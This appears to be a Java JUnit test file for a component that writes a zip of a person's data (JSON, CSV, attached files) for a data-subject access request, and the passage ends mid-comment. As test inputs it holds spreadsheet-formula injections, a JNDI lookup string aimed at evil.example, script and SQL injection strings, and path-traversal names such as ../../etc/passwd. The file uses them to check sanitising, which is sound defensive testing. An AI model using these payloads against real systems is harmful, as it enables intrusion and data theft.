package org.rightsflow.access;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.core.StreamReadFeature;
import com.fasterxml.jackson.databind.DeserializationFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.cfg.JsonNodeFeature;
import com.fasterxml.jackson.databind.json.JsonMapper;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.InputStreamReader;
import java.io.Reader;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.charset.CodingErrorAction;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.SplittableRandom;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.util.zip.ZipInputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What a data subject finds when opening the zip {@link PackageWriter} writes: the entries and their order, JSON
 * that parses and holds every row, CSV that a strict RFC 4180 reader accepts with the same rows, nothing of what
 * staff excluded, and entry names that are safe to extract. Source documents are built with Jackson from maps, as
 * {@code SystemActions} stores them.
 */
class PackageWriterTest {

    /** Reads what the package holds strictly: a repeated key fails, and 12.50 stays 12.50. */
    private static final ObjectMapper STRICT_JSON = JsonMapper.builder()
            .enable(StreamReadFeature.STRICT_DUPLICATE_DETECTION)
            .enable(DeserializationFeature.USE_BIG_DECIMAL_FOR_FLOATS)
            .enable(DeserializationFeature.FAIL_ON_TRAILING_TOKENS)
            .disable(JsonNodeFeature.STRIP_TRAILING_BIGDECIMAL_ZEROES)
            .build();
    private static final ObjectMapper SOURCE_JSON = new ObjectMapper();
    private static final String REFERENCE = "DSR-2026-0042";
    private static final String SUMMARY = "<!DOCTYPE html><html lang=\"en\"><title>Your data</title><p>Grüße</p></html>";
    /** An entry name a subject can extract anywhere: safe characters only, no empty, "." or ".." segment. */
    private static final String SAFE_ENTRY = "[A-Za-z0-9._-]+(/[A-Za-z0-9._-]+)*";

    @TempDir
    Path directory;

    private final PackageWriter writer = new PackageWriter();

    // --- entries ---

    @Test
    void entriesAreTheSummaryThenPerSystemItsJsonItsTablesInDocumentOrderAndItsFiles() throws IOException {
        SystemPartBuilder shop = system("shop", "Web shop")
                .data(document(
                        "customers", List.of(row("customer_id", 1, "email", "jane@example.com")),
                        "orders", List.of(row("order_id", 10), row("order_id", 11)),
                        "addresses", List.of()))
                .attach(101, "invoice-10.pdf", bytes("%PDF-1.7 invoice"));
        SystemPartBuilder crm = system("crm", "CRM")
                .data(document("tickets", List.of(row("ticket_id", 7, "subject", "Where is my order?"))))
                .attach(201, "call-notes.txt", bytes("called back"))
                .attach(202, "recording.mp3", bytes("ID3 audio"));
        SystemPartBuilder manual = system("archive", "Paper archive") // fulfilled by hand: no document, a scan
                .attach(301, "letter.pdf", bytes("%PDF scan"));
        SystemPartBuilder empty = system("newsletter", "Newsletter"); // nothing found, nothing attached

        Zip zip = write(shop, crm, manual, empty);

        assertThat(zip.names()).containsExactly(
                "summary.html",
                "data/shop.json",
                "data/shop/customers.csv",
                "data/shop/orders.csv",
                "data/shop/addresses.csv",
                "files/shop/invoice-10.pdf",
                "data/crm.json",
                "data/crm/tickets.csv",
                "files/crm/call-notes.txt",
                "files/crm/recording.mp3",
                "files/archive/letter.pdf");
        assertThat(zip.text("summary.html")).isEqualTo(SUMMARY);
        assertThat(zip.entry("files/crm/recording.mp3")).isEqualTo(bytes("ID3 audio"));
        // A table without rows still gets its CSV, a header only (no columns known: an empty line).
        assertThat(csv(zip, "data/shop/addresses.csv")).containsExactly(List.of(""));
    }

    @Test
    void theZipIsWellFormedAndItsCommentNamesTheRequest() throws IOException {
        Zip zip = write(system("shop", "Shop").data(document("orders", List.of(row("order_id", 1))))
                .attach(1, "a.txt", bytes("a")));

        Path file = directory.resolve("package.zip");
        Files.write(file, zip.raw());
        try (ZipFile read = new ZipFile(file.toFile(), UTF_8)) {
            assertThat(read.getComment()).isEqualTo("Personal data for request " + REFERENCE);
            // The central directory agrees with the local entries, in the same order.
            assertThat(read.stream().map(ZipEntry::getName).toList()).isEqualTo(zip.names());
        }
    }

    // --- JSON ---

    @Test
    void theJsonNamesTheSystemAndTheRequestAndHoldsEveryRowOfEveryTable() throws IOException {
        List<Map<String, Object>> orders = new ArrayList<>();
        for (int i = 0; i < 250; i++) {
            orders.add(row("order_id", 1000 + i, "status", i % 2 == 0 ? "shipped" : "returned", "paid", i % 3 == 0));
        }
        Zip zip = write(system("shop", "Web shop").data(document(
                "customers", List.of(row("customer_id", 1, "email", "jane@example.com", "deleted_at", null)),
                "orders", orders)));

        JsonNode json = json(zip, "data/shop.json");

        assertThat(fieldNames(json)).containsExactly("system", "request", "tables");
        assertThat(json.path("system").path("key").asText()).isEqualTo("shop");
        assertThat(json.path("system").path("name").asText()).isEqualTo("Web shop");
        assertThat(json.path("request").asText()).isEqualTo(REFERENCE);
        assertThat(fieldNames(json.path("tables"))).containsExactly("customers", "orders");
        JsonNode customer = json.path("tables").path("customers").get(0);
        assertThat(customer.path("email").asText()).isEqualTo("jane@example.com");
        assertThat(customer.has("deleted_at")).isTrue();
        assertThat(customer.path("deleted_at").isNull()).isTrue();
        JsonNode writtenOrders = json.path("tables").path("orders");
        assertThat(writtenOrders).hasSize(250);
        for (int i = 0; i < 250; i++) {
            assertThat(SOURCE_JSON.convertValue(writtenOrders.get(i), Map.class)).isEqualTo(orders.get(i));
        }
    }

    // --- CSV ---

    @Test
    void theCsvHeaderIsTheColumnsInFirstAppearanceOrderAndEveryRowIsOneRecordWithMissingValuesEmpty()
            throws IOException {
        Zip zip = write(system("shop", "Shop").data(document("orders", List.of(
                row("order_id", 1, "status", "shipped"),
                row("total_cents", 1990, "order_id", 2),
                row(),
                row("coupon", "WINTER", "status", null, "order_id", 4)))));

        assertThat(csv(zip, "data/shop/orders.csv")).containsExactly(
                List.of("order_id", "status", "total_cents", "coupon"),
                List.of("1", "shipped", "", ""),
                List.of("2", "", "1990", ""),
                List.of("", "", "", ""),
                List.of("4", "", "", "WINTER"));
        // CRLF after every line, the last one included; UTF-8 without a byte order mark.
        assertThat(zip.text("data/shop/orders.csv"))
                .startsWith("order_id,status,total_cents,coupon\r\n").endsWith("4,,,WINTER\r\n");
    }

    @Test
    void cellsWithCommasQuotesAndLineBreaksAreQuotedAndReadBackUnchanged() throws IOException {
        List<String> awkward = List.of(
                "Smith, Jane",
                "She said \"hello\"",
                "\"",
                "\"\"",
                "first line\nsecond line",
                "windows\r\nline",
                "a lone\rcarriage return",
                "ends with a line break\n",
                ",",
                "trailing comma,",
                "  spaces kept  ",
                "plain");
        List<Map<String, Object>> rows = awkward.stream().map(text -> row("id", 1, "note", text, "after", "x")).toList();

        Zip zip = write(system("shop", "Shop").data(document("notes", rows)));

        List<List<String>> records = csv(zip, "data/shop/notes.csv");
        assertThat(records).hasSize(awkward.size() + 1);
        for (int i = 0; i < awkward.size(); i++) {
            assertThat(records.get(i + 1)).as("row %d", i).containsExactly("1", awkward.get(i), "x");
        }
    }

    @Test
    void nestedObjectsAndArraysAreJsonTextInTheirCell() throws IOException {
        Map<String, Object> address = row("street", "Hauptstraße 5", "city", "Berlin", "lines", List.of("c/o Müller", 2));
        Zip zip = write(system("shop", "Shop").data(document("customers", List.of(
                row("id", 1, "address", address, "tags", List.of("vip", "b2b"), "empty", row())))));

        List<String> record = csv(zip, "data/shop/customers.csv").get(1);

        assertThat(SOURCE_JSON.readValue(record.get(1), Map.class)).isEqualTo(address);
        assertThat(SOURCE_JSON.readValue(record.get(2), List.class)).isEqualTo(List.of("vip", "b2b"));
        assertThat(record.get(3)).isEqualTo("{}");
        // The JSON file keeps the structure itself, not a string of it.
        assertThat(json(zip, "data/shop.json").path("tables").path("customers").get(0).path("address").path("city")
                .asText()).isEqualTo("Berlin");
    }

    @Test
    void numbersAndBooleansAreWrittenToTheCsvExactlyAsTheSystemReturnedThem() throws IOException {
        String source = "{\"amounts\":[{\"int\":42,\"negative\":-17,\"long\":9007199254740993,"
                + "\"huge\":123456789012345678901234567890,\"money\":12.50,\"precise\":12345678901234567.89,"
                + "\"tiny\":0.10000000000000000555,\"exponent\":1e-7,\"zero\":0,\"yes\":true,\"no\":false,"
                + "\"nothing\":null}]}";

        Zip zip = write(system("shop", "Shop").data(source));

        assertThat(csv(zip, "data/shop/amounts.csv")).containsExactly(
                List.of("int", "negative", "long", "huge", "money", "precise", "tiny", "exponent", "zero", "yes", "no",
                        "nothing"),
                List.of("42", "-17", "9007199254740993", "123456789012345678901234567890", "12.50",
                        "12345678901234567.89", "0.10000000000000000555", "1e-7", "0", "true", "false", ""));
        // Integers of any size are exact in the JSON too.
        JsonNode amounts = json(zip, "data/shop.json").path("tables").path("amounts").get(0);
        assertThat(amounts.path("long").bigIntegerValue()).isEqualTo(new BigInteger("9007199254740993"));
        assertThat(amounts.path("huge").bigIntegerValue()).isEqualTo(new BigInteger("123456789012345678901234567890"));
        assertThat(amounts.path("negative").asLong()).isEqualTo(-17);
    }

    /**
     * Decimals keep every digit in the JSON file, as in the CSV and the source: the http connector keeps amounts
     * such as 12.50 exact on purpose, and the sql connector writes NUMERIC values as their decimal text.
     */
    @Test
    void decimalNumbersKeepEveryDigitInTheJsonFile() throws IOException {
        String source = "{\"amounts\":[{\"money\":12.50,\"precise\":12345678901234567.89,"
                + "\"nested\":{\"rate\":0.10000000000000000555}}]}";

        Zip zip = write(system("shop", "Shop").data(source));

        JsonNode amounts = json(zip, "data/shop.json").path("tables").path("amounts").get(0);
        Map<String, String> written = new LinkedHashMap<>();
        written.put("money", amounts.path("money").decimalValue().toPlainString());
        written.put("precise", amounts.path("precise").decimalValue().toPlainString());
        written.put("nested.rate", amounts.path("nested").path("rate").decimalValue().toPlainString());
        assertThat(written).as("decimals in the JSON file, as the source has them").isEqualTo(Map.of(
                "money", "12.50", "precise", "12345678901234567.89", "nested.rate", "0.10000000000000000555"));
    }

    @Test
    void textAFormulaCouldStartWithIsPrefixedWithAnApostropheButNegativeNumbersAreNot() throws IOException {
        List<String> formulas = List.of("=HYPERLINK(\"http://evil.example\",\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)",
                "\tindented", "\rreturn", "=", "-");
        List<String> harmless = List.of("a=b", "1+1", "e-mail", "mail@example.com", "'quoted", " =leading space", "");
        List<Map<String, Object>> rows = new ArrayList<>();
        formulas.forEach(text -> rows.add(row("text", text)));
        harmless.forEach(text -> rows.add(row("text", text)));
        rows.add(row("number", -42, "decimal", -1.5));

        Zip zip = write(system("shop", "Shop").data(document("notes", rows)));

        List<List<String>> records = csv(zip, "data/shop/notes.csv");
        assertThat(records.get(0)).containsExactly("text", "number", "decimal");
        for (int i = 0; i < formulas.size(); i++) {
            assertThat(records.get(1 + i).get(0)).isEqualTo("'" + formulas.get(i));
        }
        for (int i = 0; i < harmless.size(); i++) {
            assertThat(records.get(1 + formulas.size() + i).get(0)).isEqualTo(harmless.get(i));
        }
        assertThat(records.get(records.size() - 1)).containsExactly("", "-42", "-1.5");
        // The JSON file is data, not a spreadsheet: the text stays as it was.
        JsonNode notes = json(zip, "data/shop.json").path("tables").path("notes");
        for (int i = 0; i < formulas.size(); i++) {
            assertThat(notes.get(i).path("text").asText()).isEqualTo(formulas.get(i));
        }
    }

    // --- exclusions ---

    @Test
    void aWholeSystemExclusionLeavesNothingOfThatSystemInThePackage() throws IOException {
        SystemPartBuilder shop = system("shop", "Shop")
                .data(document("orders", List.of(row("order_id", 1, "note", "SHOP-SECRET"))))
                .attach(1, "shop-file.txt", bytes("SHOP-FILE-SECRET"))
                .exclude(Exclusion.of(1, null, null, null, "third party data"));
        SystemPartBuilder crm = system("crm", "CRM").data(document("tickets", List.of(row("ticket_id", 2))));

        Zip zip = write(shop, crm);

        assertThat(zip.names()).containsExactly("summary.html", "data/crm.json", "data/crm/tickets.csv");
        zip.assertNowhere("SHOP-SECRET", "SHOP-FILE-SECRET", "\"shop\"");
    }

    @Test
    void aTableExclusionRemovesTheTableFromTheJsonAndItsCsv() throws IOException {
        Zip zip = write(system("shop", "Shop")
                .data(document(
                        "orders", List.of(row("order_id", 1)),
                        "fraud_scores", List.of(row("score", "FRAUD-SECRET", "model", "FRAUD-MODEL")),
                        "invoices", List.of(row("invoice_id", 3))))
                .exclude(Exclusion.of(1, "fraud_scores", null, null, "prevention of crime")));

        assertThat(zip.names()).containsExactly("summary.html", "data/shop.json", "data/shop/orders.csv",
                "data/shop/invoices.csv");
        assertThat(fieldNames(json(zip, "data/shop.json").path("tables"))).containsExactly("orders", "invoices");
        zip.assertNowhere("FRAUD-SECRET", "FRAUD-MODEL", "fraud_scores");
    }

    @Test
    void aColumnExclusionRemovesOnlyThatColumnOfThatTable() throws IOException {
        Zip zip = write(system("shop", "Shop")
                .data(document(
                        "customers", List.of(
                                row("id", 1, "email", "jane@example.com", "risk_note", "RISK-SECRET-1"),
                                row("risk_note", List.of("RISK-SECRET-2"), "id", 2)),
                        "orders", List.of(row("order_id", 10, "risk_note", "kept: another table's column"))))
                .exclude(Exclusion.of(1, "customers", "risk_note", null, "internal assessment")));

        JsonNode tables = json(zip, "data/shop.json").path("tables");
        assertThat(fieldNames(tables.path("customers").get(0))).containsExactly("id", "email");
        assertThat(fieldNames(tables.path("customers").get(1))).containsExactly("id");
        assertThat(tables.path("orders").get(0).path("risk_note").asText()).isEqualTo("kept: another table's column");
        assertThat(csv(zip, "data/shop/customers.csv")).containsExactly(
                List.of("id", "email"),
                List.of("1", "jane@example.com"),
                List.of("2", ""));
        assertThat(csv(zip, "data/shop/orders.csv")).containsExactly(
                List.of("order_id", "risk_note"),
                List.of("10", "kept: another table's column"));
        zip.assertNowhere("RISK-SECRET-1", "RISK-SECRET-2");
    }

    @Test
    void anAttachmentExclusionRemovesOnlyThatFile() throws IOException {
        Zip zip = write(system("shop", "Shop")
                .data(document("orders", List.of(row("order_id", 1))))
                .attach(11, "statement.pdf", bytes("KEEP-ME"))
                .attach(12, "witness-statement.pdf", bytes("WITNESS-SECRET"))
                .exclude(Exclusion.of(1, null, null, 12L, "rights of others")));

        assertThat(zip.names()).containsExactly("summary.html", "data/shop.json", "data/shop/orders.csv",
                "files/shop/statement.pdf");
        assertThat(zip.text("files/shop/statement.pdf")).isEqualTo("KEEP-ME");
        zip.assertNowhere("WITNESS-SECRET", "witness-statement");
    }

    // --- names ---

    @Test
    void unsafeTableAndFileNamesBecomeSafeEntryNames() throws IOException {
        List<String> tables = List.of("../../etc/passwd", "", "..", "注文", "Bestellübersicht", "a/b\\c:d*e?f<g>h|i",
                "/absolute", "x".repeat(300), "CON", " ", ".hidden");
        List<String> files = List.of("../../etc/passwd", "..\\..\\Windows\\win.ini", "", ".", "報告.pdf", "/root/.ssh/id_rsa",
                "C:\\Users\\jane\\scan.png", "name\u0000.txt", "line\nbreak.txt", "y".repeat(300) + ".pdf");
        Map<String, Object> document = new LinkedHashMap<>();
        for (int i = 0; i < tables.size(); i++) {
            document.put(tables.get(i), List.of(row("marker", "TABLE-" + i)));
        }
        SystemPartBuilder shop = system("shop", "Shop").data(SOURCE_JSON.writeValueAsString(document));
        for (int i = 0; i < files.size(); i++) {
            shop.attach(100 + i, files.get(i), bytes("FILE-" + i));
        }

        Zip zip = write(shop);

        assertThat(zip.names()).hasSize(2 + tables.size() + files.size());
        Path root = directory.resolve("extracted").toAbsolutePath().normalize();
        Set<String> seen = new HashSet<>();
        for (String name : zip.names()) {
            assertThat(name).matches(SAFE_ENTRY);
            assertThat(name.split("/")).allSatisfy(segment -> {
                assertThat(segment).isNotIn(".", "..").hasSizeLessThanOrEqualTo(110);
                assertThat(segment.replaceAll("[._]", "")).as("segment of %s", name).isNotEmpty();
            });
            assertThat(root.resolve(name).normalize().startsWith(root)).isTrue();
            assertThat(seen.add(name.toLowerCase(Locale.ROOT))).as("%s is unique, ignoring case", name).isTrue();
        }
        // Every table's data is in a CSV of its own, and every file is there byte for byte, in their order.
        List<String> csvs = zip.names().subList(2, 2 + tables.size());
        for (int i = 0; i < tables.size(); i++) {
            assertThat(csvs.get(i)).startsWith("data/shop/").endsWith(".csv");
            assertThat(csv(zip, csvs.get(i))).containsExactly(List.of("marker"), List.of("TABLE-" + i));
        }
        List<String> attached = zip.names().subList(2 + tables.size(), zip.names().size());
        for (int i = 0; i < files.size(); i++) {
            assertThat(attached.get(i)).startsWith("files/shop/");
            assertThat(zip.text(attached.get(i))).isEqualTo("FILE-" + i);
        }
        assertThat(attached.get(4)).endsWith(".pdf");
        // The JSON keeps the real table names: they are data, not paths.
        assertThat(fieldNames(json(zip, "data/shop.json").path("tables"))).containsExactlyElementsOf(tables);
    }

    @Test
    void namesThatCollideGetDistinctEntriesAndEachKeepsItsOwnContent() throws IOException {
        List<String> tables = List.of("orders", "Orders", "orders?", "orders!", "ORDERS", "orders-2");
        Map<String, Object> document = new LinkedHashMap<>();
        for (int i = 0; i < tables.size(); i++) {
            document.put(tables.get(i), List.of(row("marker", "TABLE-" + i)));
        }
        List<String> files = List.of("scan.pdf", "scan.pdf", "SCAN.PDF", "scan-2.pdf", "scan?.pdf", "scan*.pdf",
                "README", "readme", "a".repeat(120) + "1.txt", "a".repeat(120) + "2.txt");
        SystemPartBuilder shop = system("shop", "Shop").data(SOURCE_JSON.writeValueAsString(document));
        for (int i = 0; i < files.size(); i++) {
            shop.attach(100 + i, files.get(i), bytes("FILE-" + i));
        }

        Zip zip = write(shop);

        assertThat(zip.names()).hasSize(2 + tables.size() + files.size());
        assertThat(zip.names().stream().map(name -> name.toLowerCase(Locale.ROOT)).distinct()).hasSize(zip.names().size());
        for (int i = 0; i < tables.size(); i++) {
            String name = zip.names().get(2 + i);
            assertThat(name).startsWith("data/shop/").endsWith(".csv");
            assertThat(csv(zip, name)).containsExactly(List.of("marker"), List.of("TABLE-" + i));
        }
        for (int i = 0; i < files.size(); i++) {
            String name = zip.names().get(2 + tables.size() + i);
            assertThat(name).matches(SAFE_ENTRY).startsWith("files/shop/");
            assertThat(zip.text(name)).isEqualTo("FILE-" + i);
        }
        assertThat(zip.names()).contains("data/shop/orders.csv", "files/shop/scan.pdf", "files/shop/scan-2.pdf");
    }

    /** A long file name is shortened before its extension, so the subject's computer still knows how to open it. */
    @Test
    void aLongAttachedFileNameKeepsItsExtension() throws IOException {
        String name = "Complaint about order 1000234 - scanned letter of the customer with the receipts and photos"
                + " of the damaged parcel.pdf";

        Zip zip = write(system("shop", "Shop").attach(1, name, bytes("%PDF-1.7")));

        assertThat(zip.names()).hasSize(2);
        assertThat(zip.names().get(1)).startsWith("files/shop/Complaint_about_order_1000234").endsWith(".pdf");
    }

    @Test
    void hiddenAndDeviceNamesAreRenamedSoEverySystemCanExtractThem() throws IOException {
        Zip zip = write(system("shop", "Shop").attach(1, ".hidden.csv", bytes("a")).attach(2, "CON.txt", bytes("b"))
                .attach(3, "nul", bytes("c")));

        assertThat(zip.names()).containsExactly("summary.html", "files/shop/_hidden.csv", "files/shop/_CON.txt",
                "files/shop/_nul");
    }

    @Test
    void aHeaderThatLooksLikeAFormulaIsDefusedAndALoneEmptyCellStillMakesARow() throws IOException {
        Zip zip = write(system("shop", "Shop").data(document(
                "notes", List.of(row("=cmd", "x")),
                "tags", List.of(row("tag", "a"), row("tag", null), row("tag", "b")))));

        assertThat(csv(zip, "data/shop/notes.csv").get(0)).containsExactly("'=cmd");
        assertThat(csv(zip, "data/shop/tags.csv")).containsExactly(List.of("tag"), List.of("a"), List.of(""),
                List.of("b"));
    }

    // --- hostile content ---

    @Test
    void hostileStringsSurviveByteForByte() throws IOException {
        List<String> hostile = List.of(
                "</script><script>alert(1)</script>",
                "Robert'); DROP TABLE students;--",
                "nul\u0000byte and bell\u0007",
                "\u202Eright-to-left override\u202C",
                "\uFEFFbyte order mark first",
                "zero\u200Bwidth\u200Djoiner",
                "line\u2028separator\u2029paragraph",
                "emoji 👩‍👩‍👧 and 𝕏 outside the BMP",
                "combining e\u0301 vs é",
                "Ω ß Łódź 東京 العربية",
                "back\\slash \\\" \\u0041 not an escape",
                "${jndi:ldap://evil.example/a}",
                "%s %n %00",
                "x".repeat(100_000));
        Map<String, Object> document = new LinkedHashMap<>();
        List<Map<String, Object>> rows = new ArrayList<>();
        for (String text : hostile) {
            rows.add(row("id", rows.size(), "value", text));
        }
        document.put("hostile", rows);
        // Column and table names are data as well.
        document.put("t,a\"b\nle", List.of(row("col,\"quoted\"\r\nname", "v", "ünïcödé 列", "w")));
        byte[] binary = new byte[70_000];
        new SplittableRandom(4).nextBytes(binary);
        String systemName = "Shop \"EU\" </title> \u202E";

        Zip zip = write(system("shop", systemName).data(SOURCE_JSON.writeValueAsString(document))
                .attach(1, "binary.bin", binary));

        JsonNode json = json(zip, "data/shop.json");
        assertThat(json.path("system").path("name").asText()).isEqualTo(systemName);
        JsonNode written = json.path("tables").path("hostile");
        List<List<String>> records = csv(zip, "data/shop/hostile.csv");
        for (int i = 0; i < hostile.size(); i++) {
            assertThat(written.get(i).path("value").asText()).as("JSON of row %d", i).isEqualTo(hostile.get(i));
            assertThat(records.get(i + 1).get(1)).as("CSV of row %d", i).isEqualTo(hostile.get(i));
            assertThat(records.get(i + 1).get(1).getBytes(UTF_8)).isEqualTo(hostile.get(i).getBytes(UTF_8));
        }
        JsonNode odd = json.path("tables").path("t,a\"b\nle").get(0);
        assertThat(fieldNames(odd)).containsExactly("col,\"quoted\"\r\nname", "ünïcödé 列");
        List<String> oddCsv = zip.names().stream().filter(name -> name.startsWith("data/shop/t")).toList();
        assertThat(oddCsv).hasSize(1);
        assertThat(csv(zip, oddCsv.get(0))).containsExactly(
                List.of("col,\"quoted\"\r\nname", "ünïcödé 列"),
                List.of("v", "w"));
        assertThat(zip.entry("files/shop/binary.bin")).isEqualTo(binary);
    }

    @Test
    void rowsThatAreNotObjectsKeepTheirPlaceInTheJsonAndTheirLineInTheCsv() throws IOException {
        String source = "{\"mixed\":[{\"a\":1},42,\"text\",null,[1,2],{\"b\":2}]}";

        Zip zip = write(system("shop", "Shop").data(source));

        JsonNode mixed = json(zip, "data/shop.json").path("tables").path("mixed");
        assertThat(mixed.toString()).isEqualTo("[{\"a\":1},42,\"text\",null,[1,2],{\"b\":2}]");
        List<List<String>> records = csv(zip, "data/shop/mixed.csv");
        assertThat(records).hasSize(1 + 6);
        assertThat(records.get(0)).containsExactly("a", "b");
        assertThat(records.get(1)).containsExactly("1", "");
        assertThat(records.get(6)).containsExactly("", "2");
    }

    // --- TableShape ---

    @Test
    void tableShapeCountsEveryRowOfATableNamedTwiceAndKeepsTheColumnsOfBoth() throws IOException {
        String source = "{\"orders\":[{\"id\":1,\"total\":5},{\"id\":2,\"note\":\"x\"}],"
                + "\"customers\":[{\"id\":9}],"
                + "\"orders\":[{\"status\":\"new\",\"id\":3}]}";

        Map<String, TableShape> shapes = scan(source);

        assertThat(shapes.keySet()).containsExactly("orders", "customers");
        assertThat(shapes.get("orders")).isEqualTo(new TableShape("orders", 3, List.of("id", "total", "note", "status")));
        assertThat(shapes.get("customers")).isEqualTo(new TableShape("customers", 1, List.of("id")));
    }

    @Test
    void tableShapeCountsRowsThatAreNotObjectsAndOnlyObjectFieldsAsColumns() throws IOException {
        String source = "{\"mixed\":[42,\"text\",null,true,[1,{\"inner\":1}],{\"a\":{\"deep\":{\"x\":1}},\"b\":[1]},{\"c\":null}],"
                + "\"scalars\":[1,2,3],"
                + "\"empty\":[],"
                + "\"not_a_table\":{\"x\":[{\"y\":1}]},"
                + "\"number\":7}";

        Map<String, TableShape> shapes = scan(source);

        assertThat(shapes.keySet()).containsExactly("mixed", "scalars", "empty");
        assertThat(shapes.get("mixed")).isEqualTo(new TableShape("mixed", 7, List.of("a", "b", "c")));
        assertThat(shapes.get("scalars")).isEqualTo(new TableShape("scalars", 3, List.of()));
        assertThat(shapes.get("empty")).isEqualTo(new TableShape("empty", 0, List.of()));
    }

    @Test
    void tableShapeRefusesADocumentThatIsNotAnObjectOfTables() {
        assertThatThrownBy(() -> scan("[{\"a\":1}]")).isInstanceOf(IOException.class);
        assertThatThrownBy(() -> scan("")).isInstanceOf(IOException.class);
    }

    // --- the CSV reader of these tests ---

    @Test
    void theCsvReaderOfTheseTestsIsStrict() {
        for (String bad : List.of("a,b", "a\nb\r\n", "a\"b\r\n", "\"a\"b\r\n", "\"open\r\n", "a\rb\r\n")) {
            assertThatThrownBy(() -> new Rfc4180(new ByteArrayInputStream(bytes(bad))).next()).as(bad)
                    .isInstanceOf(IOException.class);
        }
        assertThatThrownBy(() -> new Rfc4180(new ByteArrayInputStream(new byte[] {(byte) 0xC3, '\r', '\n'})).next())
                .isInstanceOf(IOException.class);
    }

    @Test
    void theCsvReaderOfTheseTestsReadsQuotedFields() throws IOException {
        Rfc4180 reader = new Rfc4180(new ByteArrayInputStream(bytes("a,\"b,\"\"c\"\"\r\nd\",\r\n\r\n")));
        assertThat(reader.next()).containsExactly("a", "b,\"c\"\r\nd", "");
        assertThat(reader.next()).containsExactly("");
        assertThat(reader.next()).isNull();
    }

    // --- helpers: building parts ---

    private Map<String, TableShape> scan(String json) throws IOException {
        return TableShape.scan(new ByteArrayInputStream(json.getBytes(UTF_8)), writer.jsonFactory());
    }

    private SystemPartBuilder system(String key, String name) {
        return new SystemPartBuilder(key, name);
    }

    /** A system's part as {@code PackageSources} makes it: shapes scanned from the same document. */
    private final class SystemPartBuilder {

        private final String key;
        private final String name;
        private byte[] data;
        private final List<PackageWriter.Attachment> attachments = new ArrayList<>();
        private final List<Exclusion> exclusions = new ArrayList<>();

        SystemPartBuilder(String key, String name) {
            this.key = key;
            this.name = name;
        }

        SystemPartBuilder data(String json) {
            this.data = json.getBytes(UTF_8);
            return this;
        }

        SystemPartBuilder attach(long id, String fileName, byte[] content) {
            attachments.add(new PackageWriter.Attachment(id, fileName, () -> new ByteArrayInputStream(content)));
            return this;
        }

        SystemPartBuilder exclude(Exclusion exclusion) {
            exclusions.add(exclusion);
            return this;
        }

        PackageWriter.SystemPart build() throws IOException {
            byte[] content = data;
            Map<String, TableShape> shapes = content == null ? Map.of()
                    : TableShape.scan(new ByteArrayInputStream(content), writer.jsonFactory());
            return new PackageWriter.SystemPart(key, name,
                    content == null ? null : () -> new ByteArrayInputStream(content), shapes,
                    List.copyOf(attachments), List.copyOf(exclusions));
        }
    }

    private static String document(Object... tablesAndRows) {
        return json(row(tablesAndRows));
    }

    /** A map of alternating names and values, in that order; values may be null. */
    private static Map<String, Object> row(Object... namesAndValues) {
        Map<String, Object> row = new LinkedHashMap<>();
        for (int i = 0; i < namesAndValues.length; i += 2) {
            row.put((String) namesAndValues[i], namesAndValues[i + 1]);
        }
        return row;
    }

    private static String json(Object value) {
        try {
            return SOURCE_JSON.writeValueAsString(value);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] bytes(String text) {
        return text.getBytes(UTF_8);
    }

    // --- helpers: reading the package ---

    private Zip write(SystemPartBuilder... systems) throws IOException {
        List<PackageWriter.SystemPart> parts = new ArrayList<>();
        for (SystemPartBuilder system : systems) {
            parts.add(system.build());
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        PackageWriter.Written written = writer.write(out, REFERENCE, SUMMARY, parts);
        Zip zip = Zip.read(out.toByteArray());
        assertThat(written.entries()).as("the entries PackageWriter reports").isEqualTo(zip.names());
        return zip;
    }

    /** The entries of a zip, read with ZipInputStream as an unzip tool would, in their order. */
    record Zip(byte[] raw, List<String> names, Map<String, byte[]> entries) {

        static Zip read(byte[] raw) throws IOException {
            List<String> names = new ArrayList<>();
            Map<String, byte[]> entries = new LinkedHashMap<>();
            try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(raw), UTF_8)) {
                for (ZipEntry entry; (entry = zip.getNextEntry()) != null; ) {
                    names.add(entry.getName());
                    assertThat(entries.put(entry.getName(), zip.readAllBytes())).as("entry %s twice", entry.getName())
                            .isNull();
                }
            }
            return new Zip(raw, names, entries);
        }

        byte[] entry(String name) {
            assertThat(entries).containsKey(name);
            return entries.get(name);
        }

        String text(String name) {
            return new String(entry(name), UTF_8);
        }

        /** None of these texts is in any entry except the summary (which the caller wrote), nor in any entry name. */
        void assertNowhere(String... texts) {
            for (String text : texts) {
                entries.forEach((name, content) -> {
                    assertThat(name).doesNotContain(text);
                    if (!name.equals("summary.html")) {
                        assertThat(new String(content, UTF_8)).as("entry %s", name).doesNotContain(text);
                    }
                });
            }
        }
    }

    private static JsonNode json(Zip zip, String name) throws IOException {
        return STRICT_JSON.readTree(zip.entry(name));
    }

    private static List<String> fieldNames(JsonNode node) {
        List<String> names = new ArrayList<>();
        node.fieldNames().forEachRemaining(names::add);
        return names;
    }

    private static List<List<String>> csv(Zip zip, String name) throws IOException {
        byte[] content = zip.entry(name);
        assertThat(new String(content, UTF_8)).as("%s starts without a byte order mark", name).doesNotStartWith("\uFEFF");
        List<List<String>> records = new ArrayList<>();
        Rfc4180 reader = new Rfc4180(new ByteArrayInputStream(content));
        for (List<String> record; (record = reader.next()) != null; ) {
            records.add(record);
        }
        if (!records.isEmpty()) {
            int columns = records.get(0).size();
            assertThat(records).as("every record of %s has as many fields as its header", name)
                    .allSatisfy(record -> assertThat(record).hasSize(columns));
        }
        return records;
    }

    /**
     * A strict RFC 4180 reader, one record at a time: records end with CRLF (the last one too), fields are separated
